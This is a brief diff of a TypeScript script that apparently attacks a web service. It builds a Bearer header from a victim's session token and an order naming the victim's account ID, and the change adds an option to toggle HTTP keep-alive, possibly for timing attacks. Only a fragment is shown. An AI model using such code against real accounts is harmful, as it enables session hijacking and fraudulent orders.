@@ -19,9 +19,9 @@ export interface Delay {
   readonly processor: number
 }
 
-const [url = '', pid = '', seconds = '1'] = process.argv.slice(2)
+const [url = '', pid = '', seconds = '1', how = ''] = process.argv.slice(2)
 const host = Number(pid)
-const agent = new Agent({ keepAlive: true })
+const agent = new Agent({ keepAlive: how !== 'anew' })
 const authorization = `Bearer ${VICTIM.session}`
 const order = JSON.stringify({
   accountId: VICTIM.accountId,
